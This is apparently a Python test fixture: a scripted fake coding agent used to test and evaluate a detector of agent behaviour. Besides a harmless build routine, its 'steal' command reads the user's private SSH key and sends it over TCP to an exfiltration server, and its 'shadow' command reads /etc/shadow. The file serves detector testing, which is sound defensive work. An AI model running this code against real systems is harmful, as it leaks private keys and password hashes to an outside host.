#!/usr/bin/env python3
"""A scripted coding agent for the detector's tests and evaluation.

Its routine, every PERIOD seconds: read a source file, write a build output, run a tool
(/bin/true), call its API (TCP, one line back). Commands on standard input change what it does
next; each prints one result line:

  steal   read $HOME/.ssh/id_rsa, wait a second, send it to the exfiltration server
  shadow  read /etc/shadow
  probe   call the API once and print the result

Usage: coder.py PROJECT_DIR API_ADDR:PORT EXFIL_ADDR:PORT PERIOD
"""
import errno
import os
import select
import socket
import subprocess
import sys
import time

project, api, exfil, period = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])


def addr(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def call(target, payload=b""):
    try:
        with socket.create_connection(addr(target), timeout=2) as s:
            if payload:
                s.sendall(payload)
            s.recv(64)
        return "ok"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e)) if e.errno else type(e).__name__


def routine():
    with open(os.path.join(project, "src", "main.rs")) as f:
        f.read()
    with open(os.path.join(project, "target", "out.txt"), "w") as f:
        f.write("built\n")
    subprocess.run(["/bin/true"], check=False)
    call(api)


print("started", flush=True)
while True:
    routine()
    ready, _, _ = select.select([sys.stdin], [], [], period)
    if not ready:
        continue
    command = sys.stdin.readline().strip()
    if command == "":
        break
    if command == "steal":
        with open(os.path.join(os.environ["HOME"], ".ssh", "id_rsa"), "rb") as f:
            key = f.read()
        time.sleep(1)
        print("exfil", call(exfil, key), flush=True)
    elif command == "shadow":
        with open("/etc/shadow", "rb") as f:
            f.read()
        print("shadow done", flush=True)
    elif command == "probe":
        print("probe", call(api), flush=True)
